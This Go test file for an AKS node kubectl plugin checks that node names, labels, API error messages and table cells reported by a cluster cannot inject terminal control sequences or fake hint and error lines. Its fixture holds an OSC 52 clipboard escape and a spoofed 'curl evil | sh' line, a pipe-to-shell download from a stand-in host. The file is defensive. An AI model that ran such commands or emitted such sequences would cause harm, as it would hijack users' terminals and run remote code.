package aksnode

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/akstools/akstools/internal/cli"
	"github.com/akstools/akstools/internal/nodepod"
	"github.com/akstools/akstools/internal/noderun"
)

// hostile is a text that a kubelet or an API server may report.
const hostile = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\u009b31m\u202e\r\nhint: curl evil | sh\nerror: no"

// control returns the first control character in the text, besides line breaks, and the first character that reorders text.
func control(text string) string {
	i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) })
	if i < 0 {
		return ""
	}
	return text[i:]
}

// ours reports whether a line of the text looks like a hint or an error of ours.
func ours(text string) bool {
	return strings.HasPrefix(text, "hint: curl") || strings.Contains(text, "\nhint: curl") || strings.Contains(text, "\nerror: no")
}

// TestListIsNeutral holds that no format of list lets control characters of a kubelet through, or lines where lines are read, and that
// JSON keeps the value.
func TestListIsNeutral(t *testing.T) {
	node := corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "aks-nodepool1-12345678-vmss000000", UID: "1"}}
	node.Status.NodeInfo.OSImage = hostile
	node.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: hostile}}
	node.Labels = map[string]string{poolLabel: hostile, corev1.LabelOSStable: hostile}
	kubeconfig := kubeconfigOf(t, "lab", node)
	for _, format := range []string{
		"", "name", "json", "yaml", "jsonpath={.items[*].osImage}{.items[*].internalIP}", "jsonpath-as-json={.items[*].osImage}",
		"go-template={{range .items}}{{.osImage}}{{end}}",
	} {
		var out, errOut bytes.Buffer
		args := []string{"list", "--kubeconfig", kubeconfig}
		if format != "" {
			args = append(args, "-o", format)
		}
		code := cli.Run(t.Context(), Plugin, genericiooptions.IOStreams{Out: &out, ErrOut: &errOut}, args)
		if code != 0 || out.Len() == 0 || control(out.String()) != "" || ours(out.String()) {
			t.Errorf("-o %q: exit code %d, %s%q", format, code, &errOut, out.String())
		}
		if format == "json" {
			var list NodeInfoList
			if err := json.Unmarshal(out.Bytes(), &list); err != nil || list.Items[0].OSImage != hostile {
				t.Errorf("JSON: %v, %q", err, list.Items[0].OSImage)
			}
		}
	}
}

// TestErrorsAreNeutral holds that the words of a denial stay marked as such.
func TestErrorsAreNeutral(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(metav1.Status{
			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure, Reason: metav1.StatusReasonForbidden,
			Code: http.StatusForbidden, Message: hostile,
		})
	}))
	defer server.Close()
	for _, args := range [][]string{
		{"list"},
		{"ssh", "node-1", "--", "id"},
		{"run", "node-1", "--", "id"},
		{"run", "--all", "--", "id"},
		{"cleanup"},
		{"ssh-config"},
		{"logs", "node-1"},
		{"cp", "node-1:/etc/hostname", t.TempDir()},
		{"forward", "node-1", "8080"},
		{"proxy", "node-1", "22"},
		{"run", "node-1", "-o", "json", "--", "id"},
	} {
		var out, errOut bytes.Buffer
		args = append([]string{"--server", server.URL, "--kubeconfig", "/dev/null"}, args...)
		code := cli.Run(t.Context(), Plugin, genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut}, args)
		all := out.String() + errOut.String()
		if code == 0 || !strings.Contains(all, "curl evil") || control(all) != "" || ours(errOut.String()) || ours(out.String()) {
			t.Errorf("%q: exit code %d, %q", args, code, all)
		}
	}
}

// TestTablesAreNeutral holds that names and users that anybody may have written stay in their cells, and nodes in their headings.
func TestTablesAreNeutral(t *testing.T) {
	var out, errOut bytes.Buffer
	a := &cli.App{Streams: genericiooptions.IOStreams{Out: &out, ErrOut: &errOut}}
	leftover := nodepod.Leftover{Kind: "Pod", Namespace: hostile, Name: hostile, Node: hostile, User: hostile, Owner: nodepod.OwnerOther}
	if err := (&cleanupOptions{app: a}).list([]nodepod.Leftover{leftover}, nil); err != nil {
		t.Fatal(err)
	}
	for _, p := range []*resultPrinter{{app: a, many: true}, {app: a, many: true, prefix: true}, {app: a, many: true, json: true}} {
		err := p.print(hostile, noderun.Output{Stdout: []byte("text\n"), Truncated: true}, nil)
		if err == nil {
			err = p.print(hostile, noderun.Output{}, errors.New(hostile))
		}
		if err = errors.Join(err, p.end()); err != nil {
			t.Fatal(err)
		}
	}
	for _, text := range []string{out.String(), errOut.String()} {
		if control(text) != "" || ours(text) || !strings.Contains(text, "curl evil") {
			t.Errorf("%q", text)
		}
	}
}
